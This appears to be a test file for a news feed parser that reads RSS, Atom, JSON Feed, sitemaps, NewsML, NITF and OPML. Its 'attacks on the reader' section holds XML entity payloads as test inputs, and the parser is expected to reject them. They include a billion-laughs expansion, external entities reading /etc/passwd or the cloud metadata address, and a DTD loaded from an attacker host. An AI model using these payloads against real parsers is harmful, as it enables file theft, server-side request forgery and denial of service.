import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { WiredeskError } from "../../schemas/errors.js";
import { readFeed, readSubscriptions, sniffKind, writeOpml } from "./index.js";

const context = { url: "https://feeds.example/a.xml" };
const rss = (items: string) => `<rss version="2.0"><channel><title>T</title>${items}</channel></rss>`;
const item = (inside: string) => `<item><link>https://a.example/1</link>${inside}</item>`;
const codeOf = (body: string | Uint8Array) => {
  try {
    return readFeed(body, context).format;
  } catch (error) {
    return error instanceof WiredeskError ? error.code : error;
  }
};

describe("what is no feed is WD_FEED_MALFORMED, with the feed's URL and what came", () => {
  it.each([
    ["nothing", "", "empty"],
    ["words", "Service temporarily unavailable", "nothing in it"],
    ["a page", "<!doctype html><html><head><title>rss</title></head></html>", "page of HTML"],
    ["a page that shows a feed", "<html><pre><rss version='2.0'></pre></html>", "page of HTML"],
    ["other XML", "<?xml version='1.0'?><svg></svg>", "nothing in it"],
    ["RSS without a channel", "<rss version='2.0'></rss>", "without a channel"],
    ["half a JSON file", '{"version": "https://jsonfeed.org/version/1", "items": [', "begins as JSON"],
    ["other JSON", '{"error": "no such feed"}', "neither JSON Feed nor ninjs"],
  ])("%s", (_what, body, words) => {
    expect(() => readFeed(body, context)).toThrowError(
      expect.objectContaining({
        code: "WD_FEED_MALFORMED",
        input: context.url,
        message: expect.stringMatching(new RegExp(`^${context.url}: .*${words}`)),
      }),
    );
  });
});

describe("attacks on the reader", () => {
  const entities = (declarations: string) =>
    `<?xml version="1.0"?><!DOCTYPE rss [${declarations}]>${rss(item("<title>&b;</title>"))}`;
  it.each([
    ["a billion laughs", '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'],
    ["a file", '<!ENTITY b SYSTEM "file:///etc/passwd">'],
    ["a URL", '<!ENTITY b PUBLIC "x" "http://169.254.169.254/">'],
    ["a parameter entity", '<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;'],
  ])("by entities: %s", (_what, declarations) =>
    expect(codeOf(entities(declarations))).toBe("WD_FEED_MALFORMED"),
  );

  it.each(["<rss><channel>", "<feed>", "<urlset>", "<newsMessage>", "<opml><body>"])(
    "by depth below %s",
    (start) => {
      expect(codeOf(start + "<a>".repeat(300_000))).toBe("WD_FEED_MALFORMED");
    },
  );

  it("a feed full of unclosed <br> is not deep", () => {
    const feed = readFeed(
      rss(item(`<description>${"line<br>".repeat(150)}</description>`).repeat(10)),
      context,
    );
    expect(feed.items).toHaveLength(10);
  });

  it("deep JSON", () => {
    expect(codeOf(`{"items":${"[".repeat(200_000)}`)).toBe("WD_FEED_MALFORMED");
    expect(codeOf(`{"items":[${"[".repeat(3_000)}${"]".repeat(3_000)}]}`)).toBe("WD_FEED_MALFORMED");
  });

  it("links that are no web addresses", () => {
    const links = ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ftp://a.example/x"];
    const feed = readFeed(rss(links.map((link) => `<item><link>${link}</link></item>`).join("")), context);
    expect(feed.items).toEqual([]);
  });

  it("indexes of thousands of sitemaps: the newest 50 are followed", () => {
    const part = (year: number) =>
      `<sitemap><loc>/${year}.xml</loc><lastmod>${year}-01-01</lastmod></sitemap>`;
    const parts = Array.from({ length: 200 }, (_, index) => part(1980 + index)).join("");
    const { nextUrls } = readFeed(`<sitemapindex>${parts}</sitemapindex>`, context);
    expect(nextUrls).toHaveLength(50);
    expect(nextUrls?.[0]).toBe("https://feeds.example/2179.xml");
  });

  it("of any kind end in a feed or in WD_FEED_MALFORMED", () => {
    const piece = fc.constantFrom(
      "<rss>",
      "<channel>",
      "</channel>",
      "<item>",
      "</item>",
      "<title>",
      "</title>",
      "<link>",
      "</link>",
      "<![CDATA[",
      "]]>",
      "<!--",
      "-->",
      "&",
      "&amp;",
      "&#0;",
      "&#x110000;",
      "<feed>",
      "<entry>",
      "<content type='xhtml'>",
      "<urlset>",
      "<url>",
      "<loc>",
      "<newsItem>",
      "<contentSet>",
      "<inlineXML>",
      "<nitf>",
      "<body>",
      "{",
      "[",
      '"items":',
      "https://a.example/",
      "\u0000",
      "\uFEFF",
      "é",
      "\uD800",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        expect(codeOf(pieces.join(""))).toMatch(
          /^(WD_FEED_MALFORMED|rss|atom|rdf|sitemap|newsml-g2|nitf|url-list|ninjs|json-feed)$/,
        );
      }),
      { numRuns: 500 },
    );
  });
});

describe("a feed as feeds are", () => {
  it("takes the link from wherever it is", () => {
    const links = [
      "<link>https://a.example/1</link>",
      "<link><![CDATA[ https://a.example/2 ]]></link>",
      '<link href="https://a.example/3"/>',
      '<atom:link rel="alternate" href="https://a.example/4"/>',
      "<guid>https://a.example/5</guid>",
      '<guid isPermaLink="true">https://a.example/6</guid>',
      '<media:content url="https://a.example/picture"/><guid isPermaLink="false">https://a.example/no</guid>',
    ];
    const feed = readFeed(rss(links.map((link) => `<item>${link}</item>`).join("")), context);
    expect(feed.items.map(({ url }) => url)).toEqual(
      [1, 2, 3, 4, 5, 6].map((number) => `https://a.example/${number}`),
    );
  });

  it("takes the title of the item, not of its picture", () => {
    const feed = readFeed(rss(item("<media:title>Picture</media:title><title>Story</title>")), context);
    expect(feed.items[0]?.title).toBe("Story");
  });

  it.each([
    ["escaped HTML", "<title>A &lt;b&gt;bold&lt;/b&gt; move</title>"],
    ["HTML in CDATA", "<title><![CDATA[A <b>bold</b> move]]></title>"],
    ["bare HTML", "<title>A <b>bold</b>\n  move</title>"],
  ])("reads a title with %s", (_what, title) => {
    expect(readFeed(rss(item(title)), context).items[0]?.title).toBe("A bold move");
  });

  it("leaves out a date that is none", () => {
    const [read] = readFeed(rss(item("<pubDate>soon</pubDate>")), context).items;
    expect(read).toEqual({ url: "https://a.example/1" });
  });

  it("may be empty", () => {
    expect(readFeed(rss(""), context)).toMatchObject({ format: "rss", items: [] });
  });

  it("reads prefixed roots", () => {
    const atom =
      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:title>T</a:title><a:link href="https://a.example/1"/></a:entry></a:feed>';
    expect(readFeed(atom, context).items).toEqual([{ url: "https://a.example/1", title: "T" }]);
  });
});

describe("what a body is", () => {
  it.each([
    ["page", "<!DOCTYPE html><html><body><p>RSS feeds</p></body></html>"],
    ["page", "  <p>no html element</p>"],
    ["page", ""],
    ["page", '{"hello": 1}'],
    ["feed", "<?xml version='1.0'?><!-- made by hand --><rss version='2.0'>"],
    ["feed", "\uFEFF<feed xmlns='http://www.w3.org/2005/Atom'>"],
    ["feed", '{"version": "https://jsonfeed.org/version/1.1"}'],
    ["wire", "<newsItem guid='x'>"],
    ["wire", '{"uri": "urn:x", "pubStatus": "usable"}'],
    ["warc", "WARC/1.0\r\nWARC-Type: warcinfo\r\n"],
    ["list", "# pages\nhttps://a.example/1\nhttps://a.example/2\n"],
  ])("%s: %s", (kind, body) => {
    expect(sniffKind(body)).toBe(kind);
    expect(sniffKind(Buffer.from(body))).toBe(kind);
  });

  it("is told in UTF-16 too", () => {
    expect(sniffKind(Buffer.from('\uFEFF<?xml version="1.0"?><rss>', "utf16le"))).toBe("feed");
  });
});

it("OPML written is the list read", () => {
  const title = fc
    .string({ unit: "grapheme", minLength: 1, maxLength: 20 })
    .filter((text) => /^[^<&\s]+$/.test(text) && text.normalize() === text);
  const subscription = fc.record(
    { url: fc.webUrl({ withQueryParameters: true }).map((url) => new URL(url).href), title, folder: title },
    { requiredKeys: ["url"] },
  );
  fc.assert(
    fc.property(fc.uniqueArray(subscription, { selector: ({ url }) => url, maxLength: 8 }), (list) => {
      const read = readSubscriptions(writeOpml("Mine & yours", list), context);
      const named = list.map((entry) => ({ ...entry, title: entry.title ?? entry.url }));
      expect(new Set(read)).toEqual(new Set(named));
    }),
  );
});

describe("embargoes", () => {
  const newsml = (embargo: string) =>
    `<newsItem guid="urn:x:1" version="1"><itemMeta><pubStatus qcode="stat:usable"/>${embargo}</itemMeta></newsItem>`;
  const nitf = (docdata: string) => `<nitf><head><docdata ${docdata}</docdata></head></nitf>`;
  it.each([
    [
      "NewsML-G2 with an end",
      newsml("<embargoed>2031-03-04T12:00:00Z</embargoed>"),
      "usable",
      "2031-03-04T12:00:00Z",
    ],
    ["NewsML-G2 without an end", newsml("<embargoed/>"), "withheld", undefined],
    ["NITF by its status", nitf('management-status="embargoed">'), "withheld", undefined],
    [
      "NITF by its release",
      nitf('><date.release norm="20310304T120000Z"/>'),
      "usable",
      "2031-03-04T12:00:00Z",
    ],
    [
      "ninjs",
      JSON.stringify({ uri: "urn:x:1", pubstatus: "usable", embargoed: "soon" }),
      "withheld",
      undefined,
    ],
    [
      "ninjs without one",
      JSON.stringify({ uri: "urn:x:1", pubstatus: "usable", embargoed: "" }),
      "usable",
      undefined,
    ],
  ])("%s", (_what, body, pubStatus, embargoedUntil) => {
    const [item] = readFeed(body, { url: "wire.xml" }).items;
    expect(item?.wire?.pubStatus).toBe(pubStatus);
    expect(item?.wire?.embargoedUntil).toBe(embargoedUntil);
  });
});
